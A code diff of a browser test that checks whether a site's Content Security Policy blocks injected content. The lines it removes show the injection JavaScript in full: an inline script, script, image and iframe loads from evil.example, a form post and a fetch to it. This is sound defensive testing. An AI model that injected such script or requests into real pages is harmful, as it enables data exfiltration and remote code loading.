@@ -7,7 +7,7 @@ from typing import TYPE_CHECKING
 import pytest
 
 from emitter.testing.sample_moments import HOSTILE_MOMENTS
-from tests.web.chromium import NEEDS_CHROMIUM, chromium, tab
+from tests.web.chromium import HOLES, NEEDS_CHROMIUM, chromium, tab
 from tests.web.running import Running, running
 
 if TYPE_CHECKING:
@@ -44,20 +44,9 @@ def test_no_words_of_an_agent_are_run(site: Running, browser: Browser) -> None:
 
 def test_the_policy_is_kept_by_the_browser(site: Running, browser: Browser) -> None:
     """Were there a hole, what came through it could neither run, nor load, nor send, nor restyle the page."""
-    holes = """
-    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
-    add("script", {textContent: "window.ran = true"});
-    add("script", {src: "https://evil.example/x.js"});
-    add("img", {src: "https://evil.example/x.png"});
-    add("iframe", {src: "https://evil.example/"});
-    add("style", {textContent: "main { display: none }"});
-    add("form", {id: "away", method: "post", action: "https://evil.example/"});
-    document.getElementById("away").submit();
-    fetch("https://evil.example/").catch(() => 0);
-    """
     with tab(browser) as shown:
         shown.page.goto(site.asked().url)
-        shown.page.evaluate(f"() => {{ {holes} }}")
+        shown.page.evaluate(f"() => {{ {HOLES} }}")
         shown.page.wait_for_function("window.violations.length >= 7")
 
         assert {"script-src-elem", "img-src", "frame-src", "style-src-elem", "form-action", "connect-src"} <= set(
